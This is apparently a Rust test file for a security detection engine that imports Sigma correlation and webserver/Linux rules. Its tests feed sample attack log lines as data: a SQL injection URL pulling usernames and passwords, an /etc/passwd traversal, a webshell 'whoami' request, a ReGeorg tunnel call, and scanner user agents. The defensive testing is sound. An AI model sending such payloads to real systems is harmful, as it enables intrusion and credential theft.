        "title: Failure then success\nid: c-ordered\ncorrelation:\n    type: temporal_ordered\n    rules:\n        - ssh_failed\n        - ssh_accepted\n    group-by:\n        - User\n    timespan: 5m\nlevel: medium\n",
    );
    let corr = set.rules.iter().find(|r| r.id == "sigma-c-ordered").unwrap().clone();
    assert_eq!(corr.kind.name(), "temporal_ordered");
    let wrong_order = vec![accepted(0, 0, "alice", "10.0.0.1"), failed(1, 200, "alice", "10.0.0.2")];
    assert!(run(vec![corr.clone()], vec![wrong_order]).await.is_empty());
    let in_order = vec![failed(0, 0, "alice", "10.0.0.2"), accepted(1, 200, "alice", "10.0.0.1")];
    let found = run(vec![corr.clone()], vec![in_order.clone()]).await;
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].entity.as_str(), found[0].count), ("user=alice", 2));
    assert!(found[0].reasons[0].contains("ssh_failed → ssh_accepted in order"), "{:?}", found[0].reasons);
    // The success arriving first, in its own call, changes nothing.
    let split = run(vec![corr], vec![vec![in_order[1].clone()], vec![in_order[0].clone()]]).await;
    assert_eq!(split.iter().map(|d| &d.id).collect::<Vec<_>>(), vec![&found[0].id]);
}

/// The specification's own example: many failed logins, then a successful one, by the same user.
const CHAINED: &str = r#"title: Correlation - Multiple Failed Logins Followed by Successful Login
id: b180ead8-d58f-40b2-ae54-c8940995b9b6
correlation:
    type: temporal_ordered
    rules:
        - multiple_failed_login
        - ssh_accepted
    group-by:
        - User
    timespan: 10m
falsepositives:
    - Unlikely
level: high
---
title: Multiple failed logons
id: a8418a5a-5fc4-46b5-b23b-6c73beb19d41
name: multiple_failed_login
correlation:
    type: event_count
    rules:
        - ssh_failed
    group-by:
        - User
    timespan: 10m
    condition:
        gte: 10
"#;

#[tokio::test]
async fn a_temporal_correlation_over_an_event_count_correlation() {
    let set = correlated(CHAINED);
    assert_eq!(set.rules.len(), 1, "{}", set.report.render());
    let corr = set.rules[0].clone();
    assert_eq!(corr.id, "sigma-b180ead8-d58f-40b2-ae54-c8940995b9b6");
    assert!(set
        .report
        .entries
        .iter()
        .any(|e| e.title == "Multiple failed logons" && matches!(e.outcome, Outcome::Referenced { .. })));
    let mut events: Vec<Event> = (0..10).map(|i| failed(i, i as i64 * 20, "root", &format!("203.0.113.{i}"))).collect();
    events.push(accepted(10, 300, "root", "203.0.113.50"));
    let found = run(vec![corr.clone()], vec![events.clone()]).await;
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].entity.as_str(), found[0].count, found[0].severity), ("user=root", 11, Severity::High));
    // Nine failures are not "multiple" enough.
    let nine: Vec<Event> = events.iter().skip(1).cloned().collect();
    assert!(run(vec![corr.clone()], vec![nine]).await.is_empty());
    // A success before the tenth failure is not "followed by".
    let mut early = events.clone();
    early[10].timestamp = at(150);
    assert!(run(vec![corr], vec![early]).await.is_empty());
}

#[tokio::test]
async fn aliases_group_different_fields_of_different_rules() {
    // A web request from an address, then the same address as the destination of an outbound connection.
    let rules = r#"title: Webshell upload
id: alias-a
name: webshell_upload
logsource:
    category: webserver
detection:
    sel:
        cs-method: POST
        cs-uri-stem|endswith: '.jsp'
    condition: sel
---
title: Outbound connection
id: alias-b
name: outbound
logsource:
    product: vigil
    category: network
detection:
    sel:
        event.action: connect
    condition: sel
---
title: Upload then callback
id: alias-c
correlation:
    type: temporal_ordered
    rules:
        - webshell_upload
        - outbound
    group-by:
        - peer
    timespan: 10m
    aliases:
        peer:
            webshell_upload: c-ip
            outbound: DestinationIp
"#;
    let set = compile_one(rules);
    assert_eq!(set.rules.len(), 1, "{}", set.report.render());
    let corr = set.rules[0].clone();
    let mut upload = web(&access("198.51.100.77", "POST", "/upload/cmd.jsp", 200, "x"));
    upload.id = "u".into();
    upload.dst_ip = "10.0.0.5".parse().ok();
    let connect = |id: &str, dst: &str, at_s: i64| Event {
        id: id.into(),
        tenant: "acme".into(),
        source: "json".into(),
        category: Some("network".into()),
        action: Some("connect".into()),
        src_ip: "10.0.0.5".parse().ok(),
        dst_ip: dst.parse().ok(),
        timestamp: at(at_s),
        ..Event::default()
    };
    let found = run(vec![corr.clone()], vec![vec![upload.clone(), connect("c1", "198.51.100.77", 60)]]).await;
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].entity, "peer=198.51.100.77");
    let elsewhere = run(vec![corr], vec![vec![upload, connect("c2", "192.0.2.1", 60)]]).await;
    assert!(elsewhere.is_empty());
}

#[test]
fn correlations_the_engine_cannot_run_are_skipped_with_the_reason() {
    let cases = [
        ("type: event_count\n    rules: ssh_failed\n    group-by: User\n    timespan: 1h\n    condition:\n        lt: 5", "only gte and gt"),
        ("type: event_count\n    rules: ssh_failed\n    group-by: User\n    timespan: 1h\n    condition:\n        gt: 10\n        lte: 20", "only gte and gt"),
        ("type: value_sum\n    rules: ssh_failed\n    group-by: User\n    timespan: 1h\n    condition:\n        field: User\n        gt: 5", "not supported"),
        ("type: event_count\n    rules: nowhere\n    group-by: User\n    timespan: 1h\n    condition:\n        gte: 5", "not in the loaded files"),
        ("type: event_count\n    rules: ssh_failed\n    group-by: CommandLine\n    timespan: 1h\n    condition:\n        gte: 5", "unmapped field"),
        ("type: event_count\n    rules: ssh_failed\n    group-by: User\n    timespan: 1y\n    condition:\n        gte: 5", "timespan"),
        ("type: temporal_ordered\n    rules:\n        - ssh_failed\n        - ssh_accepted\n    group-by: User\n    timespan: 1h\n    condition:\n        gte: 1", "every rule in order"),
    ];
    for (body, expected) in cases {
        let set = correlated(&format!("title: c\nid: c-x\ncorrelation:\n    {body}\n"));
        let entry = set.report.entries.iter().find(|e| e.kind == "correlation").unwrap();
        match &entry.outcome {
            Outcome::Skipped { reason } => assert!(reason.contains(expected), "{body}: {reason}"),
            other => panic!("{body}: {other:?}"),
        }
    }
}

// ── rules files: [sigma], patches, side-file tests ────────────────────────────────────────────────────────

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, text).unwrap();
    path
}

#[tokio::test]
async fn a_rules_file_loads_sigma_rules_patches_them_and_their_side_file_tests_run() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "sigma/web/admin_probe.yml", WEB_RULE);
    write(
        dir.path(),
        "sigma/web/admin_probe.tests.toml",
        r#"
[[rule]]
id = "6d1f3c52-1a2b-4c3d-8e9f-0a1b2c3d4e5f"

[[rule.test]]
name = "a probe for phpMyAdmin fires"
events = [ { at = "+0s", message = "203.0.113.9 - - [01/Jan/2024:00:00:00 +0000] \"GET /phpmyadmin/ HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0\"" } ]
expect = { fires = true, entity = "src_ip=203.0.113.9", severity = "high", reason = "Admin Panel Probe" }

[[rule.test]]
name = "the panel answering 200 is filtered"
events = [ { at = "+0s", message = "203.0.113.9 - - [01/Jan/2024:00:00:00 +0000] \"GET /phpmyadmin/ HTTP/1.1\" 200 153 \"-\" \"Mozilla/5.0\"" } ]
expect = { fires = false }
"#,
    );
    write(dir.path(), "sigma/ssh.yml", SSH_RULES);
    let rules_file = write(
        dir.path(),
        "rules.toml",
        r#"
[sigma]
paths = ["sigma"]
[sigma.fields]
TargetHost = "host"

[[rule]]
id = "sigma-9a4c0000-0000-4000-8000-000000000002"
enabled = false
severity = "medium"
suppression = "15m"
"#,
    );
    let origin = rules_file.display().to_string();
    let text = std::fs::read_to_string(&rules_file).unwrap();
    let engine = DetectionEngine::builtin().with_overrides(&text, &origin).unwrap();
    let probe = engine.rule("sigma-6d1f3c52-1a2b-4c3d-8e9f-0a1b2c3d4e5f").unwrap();
    assert_eq!(probe.tests.len(), 2);
    let accepted_rule = engine.rule("sigma-9a4c0000-0000-4000-8000-000000000002").unwrap();
    assert!(!accepted_rule.enabled);
    assert_eq!(accepted_rule.severity, crate::detect::SeverityPolicy::Fixed(Severity::Medium));
    assert_eq!(accepted_rule.suppression, std::time::Duration::from_secs(900));
    assert!(accepted_rule.sigma.is_some() && accepted_rule.conditions.sigma.is_some(), "a patch keeps the detection");
    assert!(engine.rule("ssh_brute_force").is_some(), "built-in rules stay beside them");

    let reports = run_rule_tests(&engine).await;
    let mine: Vec<_> = reports.iter().filter(|r| r.rule.starts_with("sigma-6d1f")).collect();
    assert_eq!(mine.len(), 2);
    for r in mine {
        assert_eq!(r.outcome, TestOutcome::Passed, "{}", r.test);
    }

    // What a patch may not change, and a side file naming a rule that is not there.
    let e = DetectionEngine::builtin()
        .with_overrides(&format!("{text}\nwindow = \"5m\"\n"), &origin)
        .unwrap_err()
        .to_string();
    assert!(e.contains("window") && e.contains("cannot be changed on a Sigma rule"), "{e}");
    write(dir.path(), "sigma/ssh.tests.toml", "[[rule]]\nid = \"no-such-rule\"\nenabled = false\n");
    let e = DetectionEngine::builtin().with_overrides(&text, &origin).unwrap_err().to_string();
    assert!(e.contains("names no loaded Sigma rule"), "{e}");
}

#[test]
fn a_broken_sigma_table_fails_the_load_loudly() {
    let e =
        DetectionEngine::builtin().with_overrides("[sigma]\npaths = [\"/nonexistent/sigma\"]\n", "r.toml").unwrap_err();
    assert!(e.to_string().contains("/nonexistent/sigma"), "{e}");
    let e = DetectionEngine::builtin().with_overrides("[sigma]\npath = \"x\"\n", "r.toml").unwrap_err();
    assert!(e.to_string().contains("sigma.path") && e.to_string().contains("unknown field"), "{e}");
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "bad.yml",
        "title: t\nlogsource:\n    product: windows\ndetection:\n    s:\n        Image: x\n    condition: s\n",
    );
    let rules = write(dir.path(), "rules.toml", "[sigma]\npaths = [\".\"]\nstrict = true\n");
    let e = DetectionEngine::builtin()
        .with_overrides(&std::fs::read_to_string(&rules).unwrap(), &rules.display().to_string())
        .unwrap_err();
    assert!(e.to_string().contains("1 Sigma documents skipped"), "{e}");
}

// ── the SigmaHQ corpus ────────────────────────────────────────────────────────────────────────────────────

/// `<repo root>/../shared/corpus/sigma`, or `None` (and one line saying so) when it is absent outside CI.
fn corpus() -> Option<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpus/sigma");
    if dir.join("rules").is_dir() {
        return Some(dir);
    }
    assert!(
        std::env::var("CI").as_deref() != Ok("true"),
        "the SigmaHQ corpus is missing at {}: CI needs ../shared/corpus/sigma beside the repository",
        dir.display()
    );
    println!("skipped: needs the SigmaHQ corpus at {}", dir.display());
    None
}

#[test]
fn every_corpus_rule_loads_or_says_why() {
    let Some(dir) = corpus() else { return };
    let set = import(&dir.join("rules"), None).unwrap();
    let report = set.report.render();
    let files = read_sources(&[dir.join("rules")]).unwrap().len();
    assert_eq!(set.report.entries.len(), files, "one entry per document (each corpus file holds one):\n{report}");
    assert!(set.report.entries.iter().filter(|e| e.file.contains("/web/webserver_generic/")).count() >= 13);
    for e in &set.report.entries {
        if let Outcome::Skipped { reason } = &e.outcome {
            assert!(!reason.trim().is_empty(), "{}#{} skipped without a reason", e.file, e.document);
        }
        if e.file.contains("/web/webserver_generic/") {
            assert!(matches!(e.outcome, Outcome::Loaded { .. }), "every webserver rule loads:\n{report}");
        }
    }
    // The Linux builtin rules are keyword rules on routed services: they load too.
    assert_eq!(set.report.skipped(), 0, "{report}");
    assert_eq!(set.rules.len(), set.report.entries.len());
}

#[test]
fn corpus_webserver_rules_detect_what_they_describe() {
    let Some(dir) = corpus() else { return };
    let set = import(&dir.join("rules/web/webserver_generic"), None).unwrap();
    let by_id = |uuid: &str| set.rules.iter().find(|r| r.id == format!("sigma-{uuid}")).unwrap();
    let sqli = by_id("5513deaf-f49a-46c2-a6c8-3f111b5cb453");
    let traversal = by_id("7745c2ea-24a5-4290-b680-04359cb84b35");
    let agents = by_id("19aa4f58-94ca-45ff-bc34-92e533c0994a");
    let webshell = by_id("7ff9db12-1b94-4a79-ba68-a2402c5d6729");
    let regeorg = by_id("2ea44a60-cfda-11ea-87d0-0242ac130003");
    let line = |method: &str, target: &str, status: u16, agent: &str| {
        web(&access("203.0.113.66", method, target, status, agent))
    };
    assert!(sqli.applies(&line(
        "GET",
        "/items.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
        200,
        "Mozilla/5.0"
    )));
    assert!(
        !sqli.applies(&line("GET", "/items.php?id=1%20UNION%20SELECT%20username", 404, "Mozilla/5.0")),
        "404s are filtered"
    );
    assert!(!sqli.applies(&line("POST", "/items.php?id=1%20UNION%20SELECT%20x", 200, "Mozilla/5.0")), "GET only");
    assert!(!sqli.applies(&line("GET", "/items.php?id=42", 200, "Mozilla/5.0")));
    assert!(traversal.applies(&line("GET", "/static/../../../etc/passwd", 400, "curl/8.5")));
    assert!(!traversal.applies(&line("GET", "/static/app.js", 200, "curl/8.5")));
    assert!(agents.applies(&line("GET", "/", 200, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)")));
    assert!(agents.applies(&line("GET", "/", 404, "sqlmap/1.8#stable (https://sqlmap.org)")));
    assert!(!agents.applies(&line("GET", "/", 200, "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0")));
    assert!(webshell.applies(&line("GET", "/uploads/shell.aspx?c=whoami", 200, "Mozilla/5.0")));
    assert!(regeorg.applies(&web(r#"203.0.113.66 - - [15/Jun/2024:10:00:00 +0000] "POST /tunnel.jsp?cmd=connect&target=10.0.0.5&port=22 HTTP/1.1" 200 0"#)));
    assert!(
        !regeorg.applies(&line("POST", "/tunnel.jsp?cmd=connect", 200, "Mozilla/5.0")),
        "ReGeorg sends no user agent"
    );
}

#[test]
fn corpus_linux_rules_detect_their_log_lines() {
    let Some(dir) = corpus() else { return };
    let set = import(&dir.join("rules/linux"), None).unwrap();
    let by_title = |t: &str| set.rules.iter().find(|r| r.name.contains(t)).unwrap_or_else(|| panic!("{t}"));
    let line = |program: &str, text: &str| Event {
        program: Some(program.into()),
        message: Some(text.into()),
        source: "syslog".into(),
        ..Event::default()
    };
    // The example lines the rule's own comments give.
    let privileged = by_title("Privileged User Has Been Created");
    assert!(privileged.applies(&line("useradd", "new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash")));
    assert!(!privileged
        .applies(&line("useradd", "new user: name=amy, UID=1001, GID=1001, home=/home/amy, shell=/bin/bash")));
    let clamav = set.rules.iter().find(|r| r.sigma.as_ref().is_some_and(|s| s.file.contains("clamav"))).unwrap();
    assert!(clamav.applies(&line("clamd", "/var/www/up/x.php: Php.Webshell.Generic-1 FOUND")));
    assert!(!clamav.applies(&line("freshclam", "Database updated (8712345 signatures)")));
    assert!(!clamav.applies(&line("sshd", "Php.Webshell FOUND")), "another service's line");
    let sshd =
        set.rules.iter().find(|r| r.sigma.as_ref().is_some_and(|s| s.file.contains("lnx_sshd_susp_ssh"))).unwrap();
    assert!(sshd.applies(&line("sshd", "error: Corrupted MAC on input. [preauth]")));
}
